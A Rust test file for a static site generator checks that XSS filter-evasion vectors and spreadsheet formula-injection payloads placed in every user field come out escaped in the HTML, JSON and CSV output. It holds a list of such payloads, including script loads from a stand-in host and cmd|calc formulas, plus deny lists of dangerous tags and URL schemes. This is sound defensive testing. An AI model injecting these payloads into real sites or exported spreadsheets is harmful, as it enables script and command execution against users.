//! Injection: classic XSS filter-evasion vectors (after OWASP's cheat sheet) and spreadsheet
//! formula vectors in every text field a user writes, one vector per plan, page and office,
//! all of them at once in the site-wide fields. Every HTML page, plan document and inline SVG
//! chart is read with html5ever's tokenizer the way a browser reads it, and must hold:
//!
//! * no `<script>` but the theme's own `static/js/*.js` files, with nothing inline;
//! * no `on*` attribute, no `javascript:` / `vbscript:` / `data:` URL (after the whitespace and
//!   control characters a browser drops), no user text in any URL or style;
//! * no element the theme (built from benign content) and sanitised Markdown do not make:
//!   no `<iframe>`, `<object>`, `<embed>`, `<img>`, `<base>`, `<meta http-equiv>`, `<math>` …
//! * the plain fields' text shown verbatim (escaped, not stripped);
//!
//! the JSON holds every plain text verbatim, and every CSV text cell that Excel would run as
//! a formula starts with `'`.

use crate::site_support;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};
use site_support::{build_ok, files};
use std::cell::RefCell;
use std::collections::BTreeSet;
use std::path::Path;

/// Every vector carries `XSS` (any case), so user text is recognised wherever it lands.
const VECTORS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=//xss.test/xss.js></SCRIPT>",
    "<img src=x onerror=alert('XSS')>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<a href=\"javascript:alert('XSS')\">XSS</a>",
    "<a href=\"JaVaScRiPt:alert('XSS')\">XSS</a>",
    "<a href=\"&#106;avascript:alert('XSS')\">XSS</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert('XSS')\">XSS</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">XSS</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">XSS</a>",
    "<svg onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    "<iframe src=\"javascript:alert('XSS')\"></iframe>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">XSS</object>",
    "<embed src=\"data:text/html,<script>alert('XSS')</script>\">",
    "<style>@import 'http://xss.test/xss.css';</style>",
    "<div style=\"width: expression(alert('XSS'));\">XSS</div>",
    "<div style=\"background:url(javascript:alert('XSS'))\">XSS</div>",
    "<math><mtext><a href=\"javascript:alert('XSS')\">XSS</a></mtext></math>",
    "<details open ontoggle=alert('XSS')>",
    "{{ 7*7 }} {% raw %}XSS{% endraw %} {# XSS #} ${7*7}",
    "<body onload=alert('XSS')>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<!--<img src=\"--><img src=x onerror=alert('XSS')//\">",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<a href=\"vbscript:msgbox('XSS')\">XSS</a>",
    "<input autofocus onfocus=alert('XSS')>",
    "<x onclick=alert('XSS')>XSS</x>",
    "javascript:alert('XSS')",
    "</title><script>alert('XSS')</script>",
    "</textarea><script>alert('XSS')</script>",
    "<![CDATA[<script>alert('XSS')</script>]]>",
    "\u{2028}\u{2029}<script>alert('XSS')</script>",
    "=HYPERLINK(\"http://xss.test\",\"XSS\")",
    "+cmd|' /C calc'!A0 XSS",
    "-2+3+cmd|' /C calc'!A0 XSS",
    "@SUM(1+1)*cmd|' /C calc'!A0 XSS",
    "＝1+1 XSS",
    "\t=1+1 XSS",
];

/// A YAML single-quoted scalar.
fn q(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

fn write(root: &Path, name: &str, text: &str) {
    let path = root.join(name);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn plan_yaml(v: &str, own_terms: bool) -> String {
    let h = q(v);
    let mut yaml = format!(
        r#"job_no: {h}
department: {h}
ministry: {h}
office: {h}
prepared_by: {h}
strategy:
  national: {h}
  master_plan: {h}
  sub_plans:
    - name: {h}
      kpis:
        - {{ id: sub-kpi, name: {h}, unit: {h}, target: 10 }}
program: {h}
project: {h}
activity: {h}
objectives:
  - {h}
  - {h}
kpis:
  - {{ id: kpi-a, name: {h}, unit: {h}, target: 5 }}
tasks:
  - {{ id: task-a, name: {h}, unit: {h}, target: 2, schedule: {{ 2022-10: 1, 2022-11: 1 }} }}
budget:
  - id: group
    type: operating
    name: {h}
    note: {h}
    details:
      - {h}
    items:
      - id: line-a
        name: {h}
        note: {h}
        details:
          - {h}
        amount: 1000
      - id: line-b
        name: {h}
        flexible: true
        amount: 500
spending_plan: {{ 2022-10: 700, 2022-11: 800 }}
revisions:
  - date: 2022-10-15
    reference: {h}
    reason: {h}
    changes: {{ line-a: -100, line-b: 100 }}
"#
    );
    if own_terms {
        yaml.push_str(&format!(
            "conditions:\n  - {h}\napproval_terms:\n  - {h}\nsign_off:\n  proposer: {{ name: {h}, title: {h}, date: 2022-09-29 }}\n  approver: {{ name: {h}, title: {h} }}\n"
        ));
    }
    yaml
}

fn entry_yaml(v: &str) -> String {
    let h = q(v);
    format!(
        r#"month: 2022-10
disbursed: {{ line-a: 300 }}
committed: {{ line-b: 50 }}
adjustment:
  - {{ id: line-a, amount: -10, reason: {h} }}
tasks: {{ task-a: 1 }}
kpis: {{ kpi-a: 2, sub-kpi: 3 }}
events:
  - {{ name: {h}, kind: training, ended_on: 2022-10-10 }}
  - {{ name: {h}, kind: meeting, ended_on: 2022-10-12 }}
narrative: {h}
problems: {h}
"#
    )
}

fn hostile_content(root: &Path) {
    let all = VECTORS.join(" ");
    let a = q(&all);
    write(
        root,
        "site.yaml",
        &format!("title: {a}\norganisation: {a}\nministry: {a}\n"),
    );
    let list: String = VECTORS.iter().map(|v| format!("  - {}\n", q(v))).collect();
    write(
        root,
        "fiscal-years/2566.yaml",
        &format!(
            "fiscal_year: 2566\ndisbursement_targets:\n  overall: [32, 52, 72, 93]\nconditions:\n{list}approval_terms:\n{list}sign_off:\n  proposer: {{ name: {a}, title: {a}, date: 2022-09-29 }}\n  approver: {{ name: {a}, title: {a}, date: 2022-09-30 }}\n"
        ),
    );
    for (i, v) in VECTORS.iter().enumerate() {
        let folder = format!("plans/2566/office-{i:02}/act");
        write(
            root,
            &format!("{folder}/plan.yaml"),
            &plan_yaml(v, i % 2 == 0),
        );
        write(
            root,
            &format!("{folder}/progress/2022-10.yaml"),
            &entry_yaml(v),
        );
        write(
            root,
            &format!("pages/p{i:02}.md"),
            &format!(
                "---\ntitle: {}\ndescription: {}\n---\n\n{v}\n\n*{v}*\n",
                q(v),
                q(v)
            ),
        );
    }
}

/// What the tokenizer saw in one document.
#[derive(Default)]
struct Seen {
    /// (tag, attributes) of every start tag.
    tags: Vec<(String, Vec<(String, String)>)>,
    /// Text inside `<script>`, `<style>` and comments.
    script_text: String,
    style_text: String,
    comments: Vec<String>,
    /// All other text, decoded.
    text: String,
}

struct Sink {
    seen: RefCell<Seen>,
    /// Depth inside `<svg>` / `<math>`, where `<title>` and `<style>` are plain elements.
    foreign: RefCell<usize>,
    /// The raw-text element the tokenizer is in, if any.
    raw: RefCell<Option<String>>,
}

impl TokenSink for Sink {
    type Handle = ();
    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        let mut seen = self.seen.borrow_mut();
        match token {
            Token::TagToken(tag) => {
                let name = tag.name.to_string();
                match tag.kind {
                    TagKind::StartTag => {
                        let attrs = tag
                            .attrs
                            .iter()
                            .map(|a| (a.name.local.to_string(), a.value.to_string()))
                            .collect();
                        seen.tags.push((name.clone(), attrs));
                        if tag.self_closing {
                            return TokenSinkResult::Continue;
                        }
                        if matches!(name.as_str(), "svg" | "math") {
                            *self.foreign.borrow_mut() += 1;
                            return TokenSinkResult::Continue;
                        }
                        if *self.foreign.borrow() > 0 {
                            return TokenSinkResult::Continue;
                        }
                        let kind = match name.as_str() {
                            "script" => RawKind::ScriptData,
                            "style" | "xmp" | "iframe" | "noembed" | "noframes" => RawKind::Rawtext,
                            "title" | "textarea" => RawKind::Rcdata,
                            _ => return TokenSinkResult::Continue,
                        };
                        *self.raw.borrow_mut() = Some(name);
                        return TokenSinkResult::RawData(kind);
                    }
                    TagKind::EndTag => {
                        if matches!(name.as_str(), "svg" | "math") {
                            let mut depth = self.foreign.borrow_mut();
                            *depth = depth.saturating_sub(1);
                        }
                        *self.raw.borrow_mut() = None;
                    }
                }
            }
            Token::CharacterTokens(text) => match self.raw.borrow().as_deref() {
                Some("script") => seen.script_text.push_str(&text),
                Some("style") => seen.style_text.push_str(&text),
                _ => seen.text.push_str(&text),
            },
            Token::CommentToken(text) => seen.comments.push(text.to_string()),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn tokenize(html: &str) -> Seen {
    let sink = Sink {
        seen: RefCell::default(),
        foreign: RefCell::new(0),
        raw: RefCell::new(None),
    };
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.seen.take()
}

/// A URL as a browser resolves its scheme: without ASCII whitespace and control characters.
fn url_scheme_text(value: &str) -> String {
    value
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_ascii_control())
        .collect::<String>()
        .to_ascii_lowercase()
}

const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "srcset",
    "cite",
    "longdesc",
    "usemap",
    "manifest",
    "codebase",
    "lowsrc",
    "dynsrc",
    "ping",
];

/// Attributes where user text may appear, escaped, as plain text.
const TEXT_ATTRIBUTES: &[&str] = &[
    "title",
    "alt",
    "aria-label",
    "aria-description",
    "content",
    "value",
    "placeholder",
    "label",
];

const NEVER: &[&str] = &[
    "iframe", "object", "embed", "img", "image", "frame", "frameset", "applet", "base", "textarea",
    "select", "isindex", "math", "bgsound", "marquee", "audio", "video", "source", "track",
    "portal", "template", "xml", "import", "x", "scr", "mtext",
];

/// Tags that sanitised Markdown may produce from user text.
const MARKDOWN_TAGS: &[&str] = &[
    "p",
    "a",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "br",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "del",
    "s",
    "details",
    "summary",
    "div",
    "span",
    "sup",
    "sub",
];

fn check_document(name: &str, html: &str, known: &BTreeSet<String>, problems: &mut Vec<String>) {
    let seen = tokenize(html);
    let mut fail = |what: String| problems.push(format!("{name}: {what}"));
    for (tag, attrs) in &seen.tags {
        if NEVER.contains(&tag.as_str()) {
            fail(format!("<{tag}> {attrs:?}"));
        }
        if !known.contains(tag) && !MARKDOWN_TAGS.contains(&tag.as_str()) {
            fail(format!(
                "an element the theme never makes: <{tag}> {attrs:?}"
            ));
        }
        // The theme's search forms only: to the search page, one search box each.
        let attr = |name: &str| {
            attrs
                .iter()
                .find(|(a, _)| a == name)
                .map(|(_, v)| v.as_str())
        };
        if tag == "form"
            && !attr("action")
                .is_some_and(|v| v.ends_with("search/index.html") || v == "index.html")
        {
            fail(format!("<form> {attrs:?}"));
        }
        if tag == "input" && (attr("type") != Some("search") || attr("value").is_some()) {
            fail(format!("<input> {attrs:?}"));
        }
        if tag == "script" {
            let own = attrs.iter().any(|(a, v)| {
                let v = v.split("?v=").next().unwrap_or_default();
                a == "src" && v.contains("static/js/") && v.ends_with(".js") && !v.contains("//")
            }) || (name.ends_with("search/index.html")
                && attr("src") == Some("index.js"));
            if !own {
                fail(format!("a script other than the theme's: {attrs:?}"));
            }
        }
        if tag == "meta" && attrs.iter().any(|(a, _)| a == "http-equiv") {
            fail(format!("<meta http-equiv> {attrs:?}"));
        }
        if tag == "link"
            && !attrs.iter().any(|(a, v)| {
                a == "href"
                    && (v.contains("static/css/") || v.contains("static/favicon.svg?v="))
                    && !v.contains("//")
            })
        {
            fail(format!(
                "a <link> other than the theme's stylesheet: {attrs:?}"
            ));
        }
        for (attr, value) in attrs {
            let lower = value.to_lowercase();
            if attr.starts_with("on") {
                fail(format!("handler {attr}={value:?} on <{tag}>"));
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                let scheme = url_scheme_text(value);
                for bad in ["javascript:", "vbscript:", "livescript:", "data:"] {
                    if scheme.starts_with(bad) {
                        fail(format!("{attr}={value:?} on <{tag}>"));
                    }
                }
            }
            if attr == "style" {
                for bad in [
                    "expression",
                    "url(",
                    "javascript",
                    "@import",
                    "behavior",
                    "binding",
                ] {
                    if lower.contains(bad) {
                        fail(format!("style={value:?} on <{tag}>"));
                    }
                }
            }
            if lower.contains("xss") && !TEXT_ATTRIBUTES.contains(&attr.as_str()) {
                fail(format!("user text in {attr}={value:?} on <{tag}>"));
            }
        }
    }
    if !seen.script_text.trim().is_empty() {
        fail(format!("inline script: {:?}", seen.script_text));
    }
    // The email reports' fonts are base64 data: URIs, whose letters may spell anything.
    let style: String = seen
        .style_text
        .split("url(data:")
        .enumerate()
        .map(|(i, part)| {
            if i == 0 {
                part
            } else {
                part.split_once(')').map_or("", |p| p.1)
            }
        })
        .collect::<String>()
        .to_lowercase();
    for bad in ["xss", "expression(", "javascript:"] {
        if style.contains(bad) {
            fail(format!("user text in a <style>: {bad}"));
        }
    }
    for comment in &seen.comments {
        if comment.to_lowercase().contains("xss") {
            fail(format!("user text in a comment: {comment:?}"));
        }
    }
}

/// Tags the theme makes from benign content (the base fixture).
fn theme_tags(dir: &Path) -> BTreeSet<String> {
    let content = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/fixtures/base");
    let root = build_ok(&content, &dir.join("benign"));
    let mut known = BTreeSet::new();
    for (_, path) in files(&root, &["html", "svg"]) {
        let seen = tokenize(&std::fs::read_to_string(path).unwrap());
        known.extend(seen.tags.into_iter().map(|(t, _)| t));
    }
    for never in NEVER {
        assert!(!known.contains(*never), "the theme itself makes <{never}>");
    }
    known
}

#[test]
#[ignore = "slow tier: run by .ci/run"]
fn xss_vectors_in_every_field_never_reach_a_browser_as_markup() {
    let dir = tempfile::tempdir().unwrap();
    let known = theme_tags(dir.path());
    let content = dir.path().join("content");
    hostile_content(&content);
    let root = build_ok(&content, dir.path());

    let documents = files(&root, &["html", "svg"]);
    assert!(documents.len() > 3 * VECTORS.len(), "{}", documents.len());
    let mut problems = Vec::new();
    let mut svg_charts = 0;
    for (name, path) in &documents {
        let html = std::fs::read_to_string(path).unwrap();
        svg_charts += html.matches("<svg").count();
        check_document(name, &html, &known, &mut problems);
    }
    assert!(svg_charts > 0, "no chart was checked");
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );

    // Plain fields are escaped, not stripped: each plan page shows its vector as text,
    // once per field at least (office, activity, program, project, budget, tasks, KPIs …).
    // The printable document writes the body's digits as typed (`thai_digits: official`).
    for (i, v) in VECTORS.iter().enumerate() {
        let v = v.trim();
        for (page, at_least, v) in [
            (
                format!("2566/plans/office-{i:02}/act/index.html"),
                10,
                v.to_string(),
            ),
            (
                format!("2566/plans/office-{i:02}/act/plan.html"),
                10,
                v.to_string(),
            ),
            (format!("pages/p{i:02}/index.html"), 1, v.to_string()),
        ] {
            let v = v.as_str();
            let html = std::fs::read_to_string(root.join(&page)).unwrap();
            let text = tokenize(&html).text;
            let shown = text.matches(v).count();
            assert!(
                shown >= at_least,
                "{page}: {v:?} shown {shown} times as text\n{text}"
            );
        }
    }
}

fn strings(value: &serde_json::Value, into: &mut Vec<String>) {
    match value {
        serde_json::Value::String(s) => into.push(s.clone()),
        serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, into)),
        serde_json::Value::Object(map) => map.values().for_each(|v| strings(v, into)),
        _ => {}
    }
}

/// Excel runs a cell as a formula when it starts with one of these (after the BOM).
fn formula_start(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

fn is_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    !digits.is_empty() && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
}

#[test]
#[ignore = "slow tier: run by .ci/run"]
fn the_export_keeps_the_text_verbatim_and_neutralises_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let content = dir.path().join("content");
    hostile_content(&content);
    let root = build_ok(&content, dir.path());

    for (i, v) in VECTORS.iter().enumerate() {
        let path = root.join(format!("data/2566/plans/office-{i:02}/act.json"));
        let text = std::fs::read_to_string(&path).unwrap();
        let json: serde_json::Value = serde_json::from_str(&text).expect("the JSON parses");
        assert_eq!(json["office_name"], v.trim(), "{}", path.display());
        assert_eq!(json["activity"], v.trim());
        let mut all = Vec::new();
        strings(&json, &mut all);
        let verbatim = all.iter().filter(|s| s.as_str() == v.trim()).count();
        assert!(verbatim >= 5, "{v:?} verbatim {verbatim} times in {all:?}");
    }
    let summary: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(root.join("data/2566/summary.json")).unwrap(),
    )
    .expect("summary.json parses");
    let mut all = Vec::new();
    strings(&summary, &mut all);
    for v in VECTORS {
        assert!(
            all.iter().any(|s| s == v.trim()),
            "{v:?} not in summary.json"
        );
    }

    let mut cells = 0;
    let mut neutralised = 0;
    for (name, path) in files(&root, &["csv"]) {
        let bytes = std::fs::read(&path).unwrap();
        let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a BOM");
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(body);
        for record in reader.records() {
            for cell in record.expect("a CSV record").iter() {
                cells += 1;
                if cell.starts_with('\'') {
                    neutralised += 1;
                }
                assert!(
                    !formula_start(cell) || is_number(cell),
                    "{name}: a cell Excel would run: {cell:?}"
                );
            }
        }
    }
    assert!(cells > 0);
    // Each formula vector is an office name (offices.csv) and three budget names.
    let formulas = VECTORS.iter().filter(|v| formula_start(v.trim())).count();
    assert!(
        neutralised >= 4 * formulas,
        "{neutralised} cells neutralised"
    );
}

#[test]
fn the_checker_itself_catches_markup_that_would_run() {
    let known: BTreeSet<String> = ["html", "body", "p", "svg", "title", "div", "a", "script"]
        .iter()
        .map(|t| t.to_string())
        .collect();
    for (html, caught) in [
        ("<p>&lt;script&gt;alert('XSS')&lt;/script&gt;</p>", false),
        ("<p title=\"&quot;&gt;XSS\">x</p>", false),
        ("<script src=\"../static/js/sort.js\"></script>", false),
        ("<script>alert(1)</script>", true),
        ("<script src=\"https://evil.test/x.js\"></script>", true),
        ("<img src=x onerror=alert(1)>", true),
        ("<p onclick=\"x()\">x</p>", true),
        ("<a href=\"jav&#x09;ascript:alert(1)\">x</a>", true),
        ("<a href=\" &#14; JaVaScRiPt:alert(1)\">x</a>", true),
        ("<a href=\"data:text/html,x\">x</a>", true),
        ("<div style=\"background:url(javascript:x)\">x</div>", true),
        ("<svg><title><script>alert(1)</script></title></svg>", true),
        ("<p><!-- XSS --></p>", true),
        ("<p><x>new element</x></p>", true),
        ("<a href=\"../xss/\">x</a>", true),
    ] {
        let mut problems = Vec::new();
        check_document("control", html, &known, &mut problems);
        assert_eq!(!problems.is_empty(), caught, "{html}: {problems:?}");
    }
}
